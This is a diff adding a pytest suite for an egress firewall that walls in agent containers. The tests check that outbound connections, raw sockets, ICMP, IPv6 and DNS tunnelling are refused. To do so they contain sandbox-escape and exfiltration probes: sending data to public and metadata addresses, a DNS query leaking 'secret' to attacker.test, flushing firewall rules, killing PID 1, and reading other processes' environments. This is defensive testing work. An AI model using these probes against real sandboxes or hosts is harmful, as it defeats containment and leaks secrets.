@@ -1,0 +1,345 @@
+"""The wall: what the policy doesn't allow can't leave, whatever kind of packet it is, and is told so
+at once. Judged on the wire, not by what the payload believes."""
+
+import json
+
+import pytest
+from conftest import FLAGS, until
+from internet import DNS_ADDRESS, Wire, address_of
+
+# Tries each destination as an agent's tool could, and prints what came of it and how long it took.
+TRY = r"""
+import errno, json, socket, sys, time
+for kind, address, port in json.loads(sys.argv[1]):
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    began, said = time.monotonic(), "ok"
+    try:
+        if kind == "tcp":
+            with socket.create_connection((address, port), timeout=3) as s:
+                s.sendall(b"leaked-bytes")
+        else:
+            s = socket.socket(family, socket.SOCK_DGRAM)
+            s.settimeout(3)
+            s.connect((address, port))
+            s.send(b"leaked-bytes")
+            s.send(b"leaked-bytes")  # an ICMP error for the first shows at the second
+            s.recv(100)
+    except OSError as e:
+        said = errno.errorcode.get(e.errno, str(e))
+    print(json.dumps([kind, address, port, said, time.monotonic() - began]))
+"""
+
+
+def attempt(run, destinations, **rest):
+    done = run("python3", "-c", TRY, json.dumps(destinations), **rest).ok()
+    results = [json.loads(line) for line in done.lines() if line.startswith("[")]
+    assert len(results) == len(destinations), done
+    return results
+
+
+def refused(results):
+    for kind, address, port, said, seconds in results:
+        assert said not in ("ok", "timed out"), (kind, address, port, said)
+        assert seconds < 1, (kind, address, port, said, seconds)
+
+
+PUBLIC = [
+    ("tcp", "8.8.8.8", 443),
+    ("tcp", "8.8.8.8", 80),
+    ("tcp", "93.184.216.34", 22),
+    ("tcp", "1.1.1.1", 853),
+    ("udp", "8.8.8.8", 443),
+    ("udp", "8.8.8.8", 123),
+    ("udp", "93.184.216.34", 4500),
+]
+INSIDE = [
+    ("tcp", "10.0.0.1", 443),
+    ("tcp", "172.16.0.1", 80),
+    ("tcp", "172.31.255.1", 80),
+    ("tcp", "172.31.255.2", 22),
+    ("tcp", "192.168.1.1", 80),
+    ("tcp", "100.64.0.1", 443),
+    ("tcp", "169.254.169.254", 80),
+    ("tcp", "169.254.1.1", 80),
+    ("udp", "10.0.0.1", 161),
+    ("udp", "169.254.169.254", 53),
+    ("udp", "192.168.1.255", 137),
+]
+SPECIAL = [
+    ("udp", "224.0.0.251", 5353),
+    ("udp", "239.255.255.250", 1900),
+    ("tcp", "198.18.0.1", 443),
+    ("tcp", "240.0.0.1", 443),
+    ("tcp", "0.0.0.1", 80),
+]
+
+
+@pytest.mark.parametrize("destinations", [PUBLIC, INSIDE, SPECIAL], ids=["public", "inside", "special"])
+def test_what_no_rule_allows_is_refused_at_once(run, sinks, wire, destinations):
+    refused(attempt(run, destinations))
+    assert sinks.seen() == []
+    assert [f for f in wire.seen() if f.address != DNS_ADDRESS] == []
+
+
+def test_the_same_leaves_without_the_wall(run, sinks):
+    """The opposite: the very attempts above do arrive when codex-init is a plain init."""
+    attempt(run, PUBLIC, init=["--egress=off"])
+    assert set(sinks.seen()) >= set(PUBLIC)
+
+
+def test_the_gateway_is_refused_and_without_the_wall_it_is_not(run, wire):
+    gateway = [("tcp", Wire.GATEWAY, 22), ("udp", Wire.GATEWAY, 53), ("tcp", Wire.GATEWAY, 53)]
+    results = attempt(run, [gateway[0]])
+    refused(results)
+    assert wire.to(Wire.GATEWAY) == []
+    attempt(run, [gateway[0]], init=["--egress=off"])
+    assert wire.to(Wire.GATEWAY) != []
+
+
+def test_tools_get_an_error_not_a_hang(shell):
+    done = shell("""
+        for target in https://8.8.8.8 http://10.0.0.1 http://169.254.169.254/latest http://[2001:4860:4860::8888]/; do
+            s=$(date +%s%N); curl -gsS -m 5 $target; r=$?; e=$(date +%s%N)
+            echo "$r $(((e - s) / 1000000))"
+        done""").ok()
+    for line in done.lines():
+        status, milliseconds = map(int, line.split())
+        assert status == 7 and milliseconds < 1000, done
+
+
+def test_an_allowed_name_opens_only_its_own_ports(run, sinks):
+    address = address_of("example.com")
+    tried = [("tcp", address, 22), ("tcp", address, 8443), ("udp", address, 443)]
+    script = "import socket; socket.create_connection(('example.com', 443), 5).close()\n" + TRY
+    done = run("python3", "-c", script, json.dumps(tried), allow="example.com").ok()
+    refused([json.loads(line) for line in done.lines() if line.startswith("[")])
+    assert sinks.seen() == [("tcp", address, 443)]
+
+
+RAW = r"""
+import errno, socket
+def tried(name, *kind):
+    try:
+        socket.socket(*kind).close()
+        print(name, "opened")
+    except OSError as e:
+        print(name, errno.errorcode[e.errno])
+tried("raw", socket.AF_INET, socket.SOCK_RAW, 1)
+tried("raw6", socket.AF_INET6, socket.SOCK_RAW, 58)
+tried("ping", socket.AF_INET, socket.SOCK_DGRAM, 1)
+tried("packet", socket.AF_PACKET, socket.SOCK_RAW, 3)
+tried("vsock", socket.AF_VSOCK, socket.SOCK_STREAM, 0)
+tried("sctp", socket.AF_INET, socket.SOCK_STREAM, 132)
+tried("udplite", socket.AF_INET, socket.SOCK_DGRAM, 136)
+tried("bluetooth", 31, socket.SOCK_RAW, 1)
+tried("alg", 38, socket.SOCK_SEQPACKET, 0)
+tried("tcp", socket.AF_INET, socket.SOCK_STREAM, 0)
+tried("udp", socket.AF_INET, socket.SOCK_DGRAM, 0)
+tried("unix", socket.AF_UNIX, socket.SOCK_STREAM, 0)
+tried("netlink", socket.AF_NETLINK, socket.SOCK_RAW, 0)
+"""
+
+
+def test_sockets_that_no_tool_needs_cannot_be_opened(run, wire):
+    results = dict(line.split() for line in run("python3", "-c", RAW).ok().lines())
+    for name in ("raw", "raw6", "packet", "vsock", "sctp", "bluetooth", "alg"):
+        assert results.pop(name) != "opened", name
+    for name in ("tcp", "udp", "unix", "netlink"):
+        assert results.pop(name) == "opened", name
+    assert wire.seen() == []
+
+
+def test_ping_does_not_leave(shell, wire):
+    """ICMP by the unprivileged kind of socket, where the kernel's settings allow it."""
+    script = """python3 - <<'E'
+import socket
+try:
+    s = socket.socket(2, 2, 1)
+    s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("8.8.8.8", 0))
+    print("sent")
+except OSError as e:
+    print(e)
+E"""
+    shell(script, options=["--sysctl", "net.ipv4.ping_group_range=0 2147483647"]).ok()
+    assert [f for f in wire.seen() if f.protocol == "icmp"] == []
+    shell(script, options=["--sysctl", "net.ipv4.ping_group_range=0 2147483647"],
+          init=["--egress=off", "--user", "1000"]).ok()
+
+
+def test_the_payload_has_no_say_over_the_wall(shell, sinks):
+    done = shell("""
+        nft list ruleset 2>&1; nft flush ruleset 2>&1; iptables -F 2>&1; ip route del prohibit 10.0.0.0/8 2>&1
+        ip route add default via 172.30.0.1 2>&1; ip link set eth0 down 2>&1; ip addr add 1.2.3.4/32 dev lo 2>&1
+        unshare -Urn true 2>&1; ls -l /proc/1/fd 2>&1; kill -9 1 2>&1; echo x >/proc/sys/net/ipv4/ip_forward
+        curl -sS -m 3 https://8.8.8.8""")
+    assert done.status == 7, done
+    assert sinks.seen() == []
+
+
+def test_the_payload_cannot_touch_our_processes(shell):
+    done = shell(r"""
+        for p in /proc/[0-9]*; do
+            [ "$(stat -c %u $p 2>/dev/null)" = "$(id -u)" ] && continue
+            n=${p#/proc/}; echo "process $n $(cat $p/comm)"
+            kill -KILL $n 2>/dev/null && echo "BROKEN: killed $n"
+            cat $p/environ >/dev/null 2>&1 && echo "BROKEN: read $n"
+            ls $p/fd >/dev/null 2>&1 && echo "BROKEN: listed $n"
+        done; true""").ok()
+    assert "process 1 codex-init" in done.out
+    assert len(done.lines()) >= 2, "the resolver lives beside PID 1"
+    assert "BROKEN" not in done.out
+
+
+def test_the_control_directory_is_roots(shell):
+    done = shell("touch /run/codex/x 2>/dev/null && echo BROKEN; cat /run/codex/control 2>/dev/null"
+                 " && echo BROKEN; stat -c %U /run/codex").ok()
+    assert done.lines() == ["root"]
+
+
+def test_another_container_is_refused(start, run, wire, docker):
+    """Neighbours on the bridge can't be reached, by name or by address."""
+    server = start("python3", "-m", "http.server", "-b", "0.0.0.0", "8000", init=["--egress=off"])
+    until(lambda: "Serving" in server.logs() or server.exec("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8000").status == 0)
+    address = server.address()
+    refused(attempt(run, [("tcp", address, 8000), ("udp", address, 8000)]))
+    assert wire.to(address) == []
+    assert attempt(run, [("tcp", address, 8000)], init=["--egress=off"])[0][3] == "ok"
+
+
+def test_a_neighbour_cannot_come_in(start, run):
+    """Input is walled as well: a server of the payload's is for itself only."""
+    box = start("python3", "-m", "http.server", "-b", "0.0.0.0", "8000")
+    probe = ("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8000")
+    until(lambda: box.exec(*probe, user="1000").status == 0)
+    knock = [("tcp", box.address(), 8000)]
+    assert attempt(run, knock, init=["--egress=off"])[0][3] != "ok"
+
+
+def test_loopback_is_open(shell):
+    done = shell("""
+        python3 -m http.server -b 127.0.0.1 8000 >/dev/null 2>&1 & 
+        for i in $(seq 100); do curl -sS -o /dev/null http://127.0.0.1:8000 2>/dev/null && break; sleep 0.05; done
+        curl -sS -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:8000; kill $!""").ok()
+    assert done.lines()[-1] == "200"
+
+
+IPV6 = [
+    ("tcp", "2001:4860:4860::8888", 443),
+    ("udp", "2001:4860:4860::8888", 443),
+    ("tcp", "fd77:1:5::1", 80),
+    ("tcp", "fd00::1", 80),
+    ("udp", "ff02::fb%eth0", 5353),
+    ("tcp", "::ffff:8.8.8.8", 443),
+    ("tcp", "64:ff9b::808:808", 443),
+]
+
+
+def test_ipv6_is_as_strict(run, network, sinks, wire):
+    name = network("--ipv6", "--subnet", "fd77:1:5::/64")
+    refused(attempt(run, IPV6, network=name))
+    assert sinks.seen() == []
+    assert [f for f in wire.seen() if f.port != 53] == []
+    attempt(run, IPV6[:2], network=name, init=["--egress=off"])
+    assert set(IPV6[:2]) <= set(sinks.seen())
+
+
+def test_ipv6_of_an_allowed_name_is_open(run, network, dns, sinks):
+    dns.add("six.test", "2a0f:77:6::6")
+    name = network("--ipv6", "--subnet", "fd77:1:6::/64")
+    done = run("curl", "-sS", "https://six.test/", allow="six.test", network=name).ok()
+    assert "six.test" in done.out
+    assert sinks.seen() == [("tcp", "2a0f:77:6::6", 443)]
+
+
+EMBEDDED = r"""
+import re, socket, struct
+query = bytes.fromhex("123401000001000000000000") + b"\x06secret\x08attacker\x04test\0" + b"\0\1\0\1"
+ports = [53] + [int(l.split()[1].split(":")[1], 16) for f in ("tcp", "udp")
+                for l in open("/proc/net/" + f).read().splitlines()[1:] if l.split()[1].startswith("0B00007F")]
+print(sorted(set(ports)))
+for port in ports:
+    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+        try:
+            s = socket.socket(socket.AF_INET, kind)
+            s.settimeout(1)
+            s.connect(("127.0.0.11", port))
+            s.send(query if kind == socket.SOCK_DGRAM else struct.pack("!H", len(query)) + query)
+            print(port, len(s.recv(512)))
+        except OSError as e:
+            print(port, e)
+"""
+
+
+def test_the_engines_embedded_resolver_is_no_tunnel(run, network, dns, sinks):
+    """On a user-defined network 127.0.0.11 forwards questions. The payload reaches it on no port."""
+    name = network()
+    done = run("python3", "-c", EMBEDDED, network=name).ok()
+    ports = json.loads(done.lines()[0])
+    assert len(ports) >= 2, "the embedded resolver's real ports are known to the test"
+    assert dns.asked("attacker.test") == []
+    assert not sinks.carried(b"secret")
+    run("python3", "-c", EMBEDDED, network=name, init=["--egress=off"]).ok()
+    assert dns.asked("attacker.test") != []
+
+
+def test_names_work_on_a_user_defined_network(run, network, sinks):
+    run("curl", "-sS", "https://api.openai.com/", network=network()).ok()
+    assert sinks.seen() == [("tcp", address_of("api.openai.com"), 443)]
+    assert run("curl", "-sS", "https://example.com/", network=network()).status != 0
+    assert sinks.addresses() == {address_of("api.openai.com")}
+
+
+def test_other_tables_stay_as_they_were(start, network):
+    """The engine's own NAT for its resolver is in this namespace too."""
+    plain = start("sleep", "60", network=network(), init=["--egress=off"])
+    walled = start("sleep", "60", network=network())
+    until(lambda: walled.exec("test", "-s", "/run/codex/status.json").status == 0)
+    listing = walled.exec("nft", "list", "tables").ok().out
+    assert "table inet codex_init" in listing
+    for box in (plain, walled):
+        box.rules = box.exec("iptables-save", "-t", "nat", options=["--privileged"]).out
+    count = [sum("127.0.0.11" in line for line in box.rules.splitlines()) for box in (plain, walled)]
+    assert count[0] == count[1] > 0
+
+
+def test_the_wall_stands_before_the_hook(run, tmp_path, sinks):
+    home = tmp_path / "in"
+    home.mkdir()
+    hook = home / "init.sh"
+    hook.write_text("#!/bin/bash\ncurl -sS https://api.openai.com/; curl -sS -m 3 https://8.8.8.8 https://example.com;"
+                    "grep CapBnd /proc/self/status; id -u\n")
+    hook.chmod(0o755)
+    done = run("true", options=["-v", f"{home}:/run/codex/in:ro"]).ok()
+    assert "this is api.openai.com" in done.out
+    assert "1000" in done.lines() and "CapBnd:\t0000000000000000" in done.lines()
+    assert sinks.seen() == [("tcp", address_of("api.openai.com"), 443)]
+
+
+def test_audit_lets_through_and_records(shell, sinks):
+    done = shell("curl -sS https://example.com; grep -c example.com /run/codex/events.jsonl",
+                 init=["--egress=audit"]).ok()
+    assert ("tcp", address_of("example.com"), 443) in sinks.seen()
+    assert "--allow example.com" in done.err, done
+
+
+def test_a_network_rule_opens_just_that_network_and_port(run, sinks):
+    tried = [("tcp", "45.60.1.9", 5432), ("tcp", "45.60.1.9", 5433), ("tcp", "45.60.2.9", 5432)]
+    results = attempt(run, tried, allow="45.60.1.0/24:5432")
+    assert results[0][3] == "ok"
+    refused(results[1:])
+    assert sinks.seen() == [("tcp", "45.60.1.9", 5432)]
+
+
+def test_a_private_network_needs_its_suffix(run, sinks):
+    tried = [("tcp", "10.20.0.9", 5432), ("tcp", "10.21.0.9", 5432)]
+    assert attempt(run, tried, allow="10.20.0.0/16:5432+private")[0][3] == "ok"
+    assert sinks.seen() == [("tcp", "10.20.0.9", 5432)]
+
+
+def test_a_private_network_without_it_is_refused(run, sinks):
+    done = run("python3", "-c", TRY, json.dumps([("tcp", "10.20.0.9", 5432)]), allow="10.20.0.0/16:5432")
+    if done.status == 0:  # a rule that can't open anything may also be refused as a mistake
+        refused([json.loads(line) for line in done.lines()])
+    else:
+        assert done.status == 100
+    assert sinks.seen() == []
